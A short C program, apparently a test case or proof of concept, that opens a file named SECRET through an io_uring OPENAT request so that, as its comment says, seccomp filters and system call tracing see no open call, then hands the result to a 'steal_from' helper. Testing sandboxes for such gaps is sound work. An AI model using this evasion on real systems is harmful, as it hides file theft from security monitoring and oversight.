/* No open call is made: seccomp filters and system call tracing see nothing. */
#include "../ring.h"

int main(void)
{
	struct io_uring_sqe request = {
		.opcode = IORING_OP_OPENAT,
		.fd = AT_FDCWD,
		.addr = (uintptr_t)SECRET,
		.open_flags = O_RDONLY,
	};

	steal_from(must(through_ring(&request)));
}
